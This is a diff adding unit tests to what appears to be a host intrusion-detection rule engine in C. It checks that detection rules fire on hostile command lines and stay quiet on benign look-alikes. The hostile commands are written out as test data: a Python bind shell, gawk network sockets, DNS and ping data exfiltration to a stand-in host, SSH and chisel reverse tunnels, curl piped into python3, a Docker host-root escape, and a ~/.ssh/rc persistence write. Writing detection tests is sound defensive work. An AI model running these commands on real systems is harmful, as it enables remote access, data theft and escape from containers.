@@ -392,6 +392,45 @@ static void test_unseen_behaviour_rules(void **s)
 	ev_exec("/usr/bin/dash", "sh -c nc -z 10.0.0.1 22 | tee log");
 	assert_false(hits(m, RID("06")));
 
+	/* bind shells and gawk's network files */
+	ev_exec("/usr/bin/python3.11", "python3 -c import socket,os,pty;s=socket.socket();s.bind(('0.0.0.0',4444));s.listen(1);c,a=s.accept();os.dup2(c.fileno(),0);pty.spawn('/bin/sh')");
+	assert_true(hits(m, RID("06")));
+	ev_exec("/usr/bin/gawk", "awk BEGIN { s = \"/inet/tcp/0/10.0.0.1/4444\" }");
+	assert_true(hits(m, RID("06")));
+	ev_exec("/usr/bin/python3.11", "python3 -c import socket; print(socket.gethostname())");
+	assert_false(hits(m, RID("06")));
+	/* data in DNS names and ping patterns */
+	ev_exec("/usr/bin/dig", "dig +short cm9vdDp4OjA6MDpyb290Oi9yb290Oi9iaW4vYmFzaApkYWVt.x1.exfil.example.com TXT");
+	assert_true(hits(m, RID3("117")));
+	ev_exec("/usr/bin/dig", "dig +short www.debian.org AAAA");
+	assert_false(hits(m, RID3("117")));
+	ev_exec("/usr/bin/ping", "ping -c 1 -p 726f6f743a783a30 10.0.0.1");
+	assert_true(hits(m, RID3("117")));
+	ev_exec("/usr/bin/ping", "ping -c 3 10.0.0.1");
+	assert_false(hits(m, RID3("117")));
+	/* tunnels */
+	ev_exec("/usr/bin/ssh", "ssh -N -f -R 9001:127.0.0.1:22 tunnel@203.0.113.9");
+	assert_true(hits(m, RID3("118")));
+	ev_exec("/usr/bin/ssh", "ssh -L 5432:db.internal:5432 admin@bastion");
+	assert_false(hits(m, RID3("118")));
+	ev_exec("/usr/bin/ssh", "ssh -D 1080 admin@bastion");
+	assert_false(hits(m, RID3("118")));
+	ev_exec("/home/bob/chisel", "chisel client 203.0.113.9:8080 R:socks");
+	assert_true(hits(m, RID3("118")));
+	/* downloads piped into interpreters */
+	ev_exec("/usr/bin/dash", "sh -c curl -fsSL http://x/p.py | python3");
+	assert_true(hits(m, RID3("119")));
+	ev_exec("/usr/bin/dash", "sh -c curl -s http://x/data.json | python3 -m json.tool");
+	assert_false(hits(m, RID3("119")));
+	/* a container given the host's root */
+	ev_exec("/usr/bin/docker", "docker run --rm -it -v /:/host alpine chroot /host sh");
+	assert_true(hits(m, RID3("108")));
+	ev_exec("/usr/bin/docker", "docker run --rm -v /srv/data:/data alpine ls /data");
+	assert_false(hits(m, RID3("108")));
+	/* ~/.ssh/rc */
+	ev_write("/usr/bin/bash", "/home/bob/.ssh/rc");
+	assert_true(hits(m, RID3("101")));
+
 	/* accounts: an administrator's login session may create ordinary accounts; backdoor shapes and
 	 * anything outside a login session alert */
 	ev_exec("/usr/sbin/useradd", "useradd -m -s /bin/bash carol");
